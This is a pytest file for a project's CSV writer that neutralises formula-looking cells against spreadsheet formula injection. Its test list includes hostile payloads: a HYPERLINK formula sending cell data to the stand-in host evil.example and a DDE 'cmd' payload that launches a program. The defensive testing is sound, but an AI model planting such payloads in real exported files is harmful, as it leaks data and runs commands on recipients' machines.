"""The one CSV writer: formula-looking text is neutralised, numbers stay numbers; no product
module writes CSV another way."""

import io
import pathlib
import re

import pytest

from core import csv as safe_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def assert_no_live_formula(rows):
    """Every cell: not starting with a formula character, unless it is a plain number."""
    rows = list(rows)
    assert rows
    for row in rows:
        for cell in row:
            assert not FORMULA_START.match(cell) or NUMBER.match(cell), (cell, row)


@pytest.mark.parametrize("value", HOSTILE)
def test_text_is_neutralised(value):
    assert safe_csv.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -2.5, 0, None, "", "Jo", "'=already", "1-2"])
def test_other_values_are_kept(value):
    assert safe_csv.neutralise(value) == value


def test_writers():
    out = io.StringIO()
    safe_csv.writer(out).writerows([["=1+1", -3, "ok"]])
    d = safe_csv.DictWriter(out, fieldnames=["a", "b"])
    d.writerow({"a": "@x", "b": -1})
    assert out.getvalue().splitlines() == ["'=1+1,-3,ok", "'@x,-1"]


def test_no_module_writes_csv_another_way():
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        rel = path.relative_to(root)
        if rel.parts[0] in {".venv", "node_modules", "tests", "bench"} or rel == pathlib.Path(
            "core/csv.py"
        ):
            continue
        text = path.read_text()
        if re.search(r"^import csv\b|^from csv import", text, re.M) and re.search(
            r"csv\.(writer|DictWriter)\(", text
        ):
            offenders.append(str(rel))
    assert offenders == []
